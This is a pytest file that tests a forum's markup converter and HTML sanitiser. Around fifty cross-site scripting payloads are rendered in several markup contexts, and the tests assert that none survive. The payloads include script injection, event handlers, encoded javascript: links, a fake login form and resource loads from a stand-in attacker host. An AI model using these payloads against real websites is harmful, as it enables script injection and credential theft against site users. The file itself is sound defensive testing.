import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from forum.core.markup import Flavour, Source, render_many
from forum.core.markup.pipeline import convert
from forum.core.markup.sanitising import sanitise
from tests.core.markup.html_checker import faults

CONTEXTS: dict[str, Callable[[str], str]] = {
    "raw": lambda text: text,
    "quote": lambda text: "\n".join(f"> {line}" for line in text.split("\n")),
    "list": lambda text: "- " + "\n  ".join(text.split("\n")),
    "cell": lambda text: "| a | b |\n|---|---|\n| " + text.replace("\n", " ") + " | c |",
    "link": lambda text: f"[a]({text}) ![b]({text} '{text}') [{text}](/x)",
    "code": lambda text: f"```{text}\n{text}\n```\n`{text}`",
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/i.png' onerror='alert(1)' style='position:fixed' srcset='https://evil.example/x 2x'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>a</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='//evil.example'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>a</a>",
    "<a href='java&Tab;script&NewLine;:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>a</a>",
    "<a href='javascript&amp;colon;alert(1)'>a</a>",
    "<a href=' &#1; javascript:1'>a</a>",
    "<a href='//evil.example' target=_blank rel=opener>a</a>",
    "<a href='https://a&#64;evil.example'>a</a>",
    '<a href="https://example.org/\'onmouseover=alert(1)">a</a>',
    "<a title='\"><script>alert(1)</script>' href='/x'>a</a>",
    "<p id=login name=login class='btn fixed'>a</p>",
    "<li id='user-content-post-fn-1'><sup id='fn:1'>a</sup></li>",
    "[a](javascript:alert(1))",
    "[a](javascript:1)",
    "[a](vbscript:1) [a](data:1) [a](tel:1) [a](ms-msdt:123)",
    "[a](<java\tscript:alert(1)>)",
    "[a](/\\evil.example) [a](///evil.example) [a](\\\\evil.example)",
    "[a](https:evil.example) [a](https://x@evil.example)",
    "![a](https://evil.example/pixel.gif)",
    "![a](javascript:alert(1))",
    '[a](https://example.org "\\" onclick=alert(1)")',
    "<javascript:alert(1)> <data:text/html,x> <https://evil.example/\"onclick='alert(1)>",
    "javascript:1 data:a.com/x ftp://evil.example ssh://evil.example HTTP://example.org hTTps://example.org",
    "[a]: javascript:alert(1)\n\n[a]",
    "[^1]: <script>alert(1)</script>\n\n[^1]",
    "- [ ] <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 \x0239\x03",
    "<b <script>alert(1)</script>>a</b>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?>",
    "<table><td><a href=javascript:1>a</td><script>alert(1)</script></table>",
    "\ud800<script>alert(1)</script>\x00<scr\x00ipt>alert(1)</script>",
]


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through(attack: str, context: str) -> None:
    source = CONTEXTS[context](attack)

    for flavour in Flavour:
        html = convert(Source(source, flavour)).html
        assert faults(html) == []
        assert sanitise(html, flavour=flavour).html == html


@pytest.mark.slow
@pytest.mark.parametrize("context", CONTEXTS)
def test_no_attack_that_others_collected_gets_through(shared_dir: Path, context: str) -> None:
    corpus = shared_dir / "data" / "attacks" / "xss.jsonl"
    attacks = [json.loads(line)["input"] for line in corpus.read_text(encoding="utf-8").splitlines()]
    sources = [Source(CONTEXTS[context](attack)) for attack in attacks]

    results = list(zip(sources, render_many(sources), strict=True))

    assert len(results) > 1_000
    assert [source.text for source, rendered in results if not rendered.ok] == []
    assert [(source.text, found) for source, rendered in results if (found := faults(rendered.html))] == []
    # Every tenth, because it takes as long as all the rest.
    sanitised = [(rendered.html, sanitise(rendered.html).html) for _, rendered in results[::10]]
    assert [change for change in sanitised if change[0] != change[1]] == []


@pytest.mark.parametrize(
    "source",
    [
        "# A\n\n- [x] b `c` **d**\n\n```python\nreturn '&lt;' + \"<\" # e\n```\n\n> f[^1]\n\n[^1]: g",
        "https://example.org/?a=1&b=2 <https://example.org> @bob",
        "![a](https://example.org/i.png) ![b](/i.png) &amp;lt; &copy; &amp;copy; a & b",
        "<p>a<p>b<ul><li>c</ul><dl><dt>d<dd>e</dl><table><tr><td>f</table>",
    ],
)
def test_sanitising_again_changes_nothing(source: str) -> None:
    once = convert(Source(source, mentions={"bob": "/users/1"})).html

    assert sanitise(once, mentions={"bob": "/users/1"}).html == once


def test_what_is_not_allowed_can_be_read() -> None:
    html = convert(Source("Use <script> for a vector<int> in <Foo Bar='1'>.")).html

    assert html == "<p>Use &lt;script&gt; for a vector&lt;int&gt; in &lt;Foo Bar='1'&gt;.</p>"


def test_links_carry_the_address_that_was_checked() -> None:
    html = convert(Source("<a href='\thttps:\\\\example.org\\a&amp;b&quot;'>x</a>")).html

    assert re.findall('href="([^"]*)"', html) == ["https://example.org/a&amp;b%22"]
